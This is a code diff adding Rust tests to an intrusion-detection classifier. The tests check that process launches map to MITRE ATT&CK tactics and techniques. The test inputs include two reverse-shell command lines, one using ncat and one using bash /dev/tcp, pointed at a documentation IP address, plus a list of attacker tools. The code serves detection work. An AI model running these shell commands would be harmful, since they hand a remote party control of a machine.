@@ -89,3 +89,86 @@ fn every_technique_the_lexicon_names_has_a_tactic() {
     assert_eq!(explain::tactic_of_technique("T1053.003"), "persistence");
     assert_eq!(explain::tactic_of_technique("T9999"), "");
 }
+
+fn started(argv: &[&str], ts: u64) -> Event {
+    Event {
+        comm: argv[0].rsplit('/').next().unwrap().into(),
+        exe: format!("/usr/bin/{}", argv[0]),
+        detail: Some(Detail::Exec(Exec {
+            argv: argv.iter().map(|a| a.to_string()).collect(),
+            ..Exec::default()
+        })),
+        ..shell("", "sh", ts)
+    }
+}
+
+#[test]
+fn a_program_whose_purpose_is_a_technique_names_it() {
+    // No indicator in these command lines points at the goal; the program
+    // started does.
+    let cases = [
+        (&["hostname"][..], "discovery", "T1082"),
+        (&["poweroff", "-f"][..], "impact", "T1529"),
+        (
+            &["tcpdump", "-i", "any", "-w", "/tmp/c.pcap"][..],
+            "credential-access",
+            "T1040",
+        ),
+        (&["smbstatus", "-S"][..], "discovery", "T1135"),
+        (&["pfctl", "-d"][..], "defense-evasion", "T1562.004"),
+    ];
+    for (argv, tactic, technique) in cases {
+        let mut c = classifier();
+        let (f, p) = c.classify(&started(argv, 1_000_000_000));
+        let a = c.explain(&f, &p, 3);
+        assert_eq!(
+            (a.tactic.as_str(), a.technique.as_str()),
+            (tactic, technique),
+            "{argv:?}"
+        );
+    }
+    // A high-precision indicator still comes first: a shell handed to a
+    // network peer is a command channel (the training corpus labels reverse
+    // and bind shells command and control) whatever program does it.
+    let mut c = classifier();
+    let (f, p) = c.classify(&started(
+        &["ncat", "-e", "/bin/sh", "203.0.113.9", "4444"],
+        1_000_000_000,
+    ));
+    let a = c.explain(&f, &p, 3);
+    assert_eq!(a.tactic, "command-and-control", "{}", a.technique);
+    assert_eq!(
+        named("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
+        ("command-and-control".to_string(), "T1095".to_string())
+    );
+    // Every program technique has a tactic.
+    for name in [
+        "hostname",
+        "ss",
+        "nmap",
+        "ping",
+        "crontab",
+        "at",
+        "useradd",
+        "usermod",
+        "insmod",
+        "update-rc.d",
+        "setcap",
+        "xclip",
+        "scrot",
+        "ssh",
+        "chisel",
+        "tor",
+        "rclone",
+        "john",
+        "wipefs",
+        "timedatectl",
+        "base64",
+        "shred",
+        "chattr",
+        "setenforce",
+    ] {
+        let t = outlier_classifier::lexicon::program_technique(name);
+        assert!(!explain::tactic_of_technique(t).is_empty(), "{name}: {t}");
+    }
+}
